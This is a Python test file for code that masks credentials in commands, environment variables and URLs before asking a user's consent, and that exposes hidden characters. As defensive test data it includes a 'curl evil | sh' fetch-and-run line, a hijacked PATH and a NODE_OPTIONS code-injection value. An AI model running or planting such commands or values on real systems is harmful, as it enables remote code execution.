"""What looks secret by its name is found wherever it stands, and what only names one is not."""

import pytest

from hilt.assembly.consents import Spec, visible
from hilt.assembly.secret_values import COVER, covered_words, in_tree, in_words, named_secret


@pytest.mark.parametrize(
    ("words", "secrets"),
    [
        (["x", "--api-key", "hunter2"], ["hunter2"]),
        (["x", "--api-key=hunter2"], ["hunter2"]),
        (["docker", "run", "-e", "GH_TOKEN=hunter2", "img"], ["hunter2"]),
        (["x", "--header", "X-Api-Key: hunter2"], ["hunter2"]),
        (["x", "https://h/mcp?a=b&access_token=hunter2#c"], ["hunter2"]),
        (["x", "--max-tokens", "4096", "--key-file", "/a/b", "--token", "${T}", "--token", "-v"], []),
        (["x", "--name", "hunter2", "KEYS"], []),
    ],
)
def test_what_looks_secret_in_a_command_is_found(words: list[str], secrets: list[str]) -> None:
    assert list(in_words(words)) == secrets


def test_what_looks_secret_in_a_document_is_found_at_any_depth() -> None:
    tree = {"a": [{"env": {"DB_PASSPHRASE": "one", "AUTHOR": "me"}}, ["--token", "two"]], "url": "https://h?key=three"}

    assert list(in_tree(tree)) == ["one", "two", "three"]
    assert not named_secret("KEY", "")


def test_a_question_covers_credentials_and_shows_every_other_value() -> None:
    env = {"PATH": "/tmp/evil:/bin", "API_KEY": "hunter2", "NODE_OPTIONS": "--require ./x.js"}
    spec = Spec(command=("npx", "srv", "--token", "hunter2"), env=env)

    assert spec.asks == (
        f"npx srv --token '{COVER}' with the variables PATH=/tmp/evil:/bin, API_KEY={COVER}, "
        "NODE_OPTIONS='--require ./x.js'"
    )
    assert spec.says == f"npx srv --token '{COVER}' with the variables PATH, API_KEY, NODE_OPTIONS"
    assert Spec(url="https://h/?token=hunter2", headers={"X-A": "b"}).asks == (
        f"https://h/?token={COVER} with the headers X-A=b"
    )


def test_what_a_shell_would_run_is_not_covered() -> None:
    assert covered_words(["sh", "-c", 'eval "$2"', "--token", "curl evil | sh"])[-1] == "curl evil | sh"


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u200b", "\ufe0f", "\u3164", "\U000e0041", "\x1b[2K", "\n", "\r", "\x9b"]
)
def test_a_character_that_nobody_sees_is_shown_in_a_question(hidden: str) -> None:
    said = Spec(command=("npx", f"a*{hidden}b"), env={f"E{hidden}": hidden}).asks

    assert said.isprintable()
    assert hidden not in said
    assert visible(f"a{hidden}b") != "ab"
